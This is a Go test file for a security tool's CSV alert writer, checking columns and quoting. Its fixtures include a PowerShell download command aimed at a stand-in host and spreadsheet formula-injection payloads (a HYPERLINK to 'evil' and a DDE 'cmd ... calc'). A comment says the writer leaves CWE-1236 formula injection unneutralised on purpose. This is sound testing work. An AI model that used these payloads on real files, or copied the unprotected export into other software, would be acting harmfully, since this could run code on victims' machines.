package sink

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"testing"

	"github.com/vigil-sec/vigil/internal/alert"
)

var wantHeader = []string{"timestamp", "level", "rule_title", "rule_id", "rule_author", "techniques", "tactics",
	"host", "source_path", "source_line", "source_record", "event", "correlation"}

// writeCSV writes the alerts and parses the result back with encoding/csv,
// which also checks every record has the header's column count.
func writeCSV(t *testing.T, alerts ...*alert.Alert) ([][]string, string) {
	t.Helper()
	var b bytes.Buffer
	s, _ := New("csv", &b)
	for _, a := range alerts {
		if err := s.Write(a); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("output does not parse as CSV: %v\n%s", err, b.String())
	}
	if len(recs) != len(alerts)+1 {
		t.Fatalf("%d records for %d alerts plus header", len(recs), len(alerts))
	}
	if !reflect.DeepEqual(recs[0], wantHeader) {
		t.Fatalf("header %q, want %q (docs/scan.md)", recs[0], wantHeader)
	}
	return recs[1:], b.String()
}

func TestCSVColumns(t *testing.T) {
	corr := evtxAlert()
	corr.Event = nil // correlation alert
	corr.Correlation = map[string]any{"type": "event_count"}
	rows, _ := writeCSV(t, evtxAlert(), jsonAlert(), corr)
	for _, tc := range []struct {
		name string
		got  []string
		want []string
	}{
		// Lists are space separated; the event is the raw JSON.
		{"evtx", rows[0], []string{"2026-03-10T09:41:12.345Z", "high", "Suspicious PowerShell Download",
			"5f8b1e2a-0000-4000-8000-000000000001", "Florian Roth (Nextron Systems)", "T1059.001 T1105",
			"execution command-and-control", "CLAIMS-WS03.medsure.local", "logs/a.evtx", "", "4711",
			`{"EventID":4104,"ScriptBlockText":"iwr http://x/a.ps1"}`, ""}},
		// No time, host or record: empty cells, never "0" or "null".
		{"json", rows[1], []string{"", "low", "Whoami", "r2", "someone", "", "", "", "events.jsonl", "12", "",
			`{"Image":"C:\\Windows\\System32\\whoami.exe"}`, ""}},
		// A correlation alert has no event; its cell is empty and the
		// correlation section is the last column, as JSON.
		{"correlation", rows[2], []string{"2026-03-10T09:41:12.345Z", "high", "Suspicious PowerShell Download",
			"5f8b1e2a-0000-4000-8000-000000000001", "Florian Roth (Nextron Systems)", "T1059.001 T1105",
			"execution command-and-control", "CLAIMS-WS03.medsure.local", "logs/a.evtx", "", "4711", "", `{"type":"event_count"}`}},
	} {
		if !reflect.DeepEqual(tc.got, tc.want) {
			t.Errorf("%s:\n got  %q\n want %q", tc.name, tc.got, tc.want)
		}
	}
}

// TestCSVQuoting: values come from rules and from attacker-influenced logs;
// commas, quotes and newlines must survive a round trip through a CSV
// reader in the right column.
//
// Formula-leading values (=, +, -, @) are written verbatim: the sink does
// not neutralise spreadsheet formula injection (CWE-1236). This test pins
// that down, so adding a neutralisation is a deliberate, visible change.
func TestCSVQuoting(t *testing.T) {
	for _, tc := range []struct{ name, title, host, event string }{
		{"comma", "a, b, c", "host,1", `{"a":1,"b":2}`},
		{"quotes", `say "hi"`, `"quoted"`, `{"CommandLine":"cmd /c \"x\""}`},
		{"newlines", "line1\nline2", "h\r\nx", "{\n  \"a\": 1\n}"},
		{"formula =", "=HYPERLINK(\"http://evil/\",\"x\")", "=1+1", `{"a":"=cmd|' /C calc'!A0"}`},
		{"formula +", "+1", "+cmd", `{}`},
		{"formula -", "-2+3", "-host", `{}`},
		{"formula @", "@SUM(1,2)", "@host", `{}`},
		{"tab and cr", "\ttab", "\rcr", `{}`},
		{"unicode", "Überwachung — 日本語 🚨", "ПК-01", `{"u":"é"}`},
		{"empty title", "", "", `{}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := evtxAlert()
			a.Rule.Title, a.Host, a.Event = tc.title, tc.host, json.RawMessage(tc.event)
			rows, raw := writeCSV(t, a)
			r := rows[0]
			// encoding/csv reads \r\n inside a quoted field as \n.
			wantHost := tc.host
			if tc.host == "h\r\nx" {
				wantHost = "h\nx"
			}
			if r[2] != tc.title || r[7] != wantHost || r[11] != tc.event {
				t.Errorf("round trip: title %q host %q event %q\nraw: %q", r[2], r[7], r[11], raw)
			}
			if r[3] != a.Rule.ID || r[10] != "4711" {
				t.Errorf("neighbouring columns shifted: %q", r)
			}
		})
	}
}
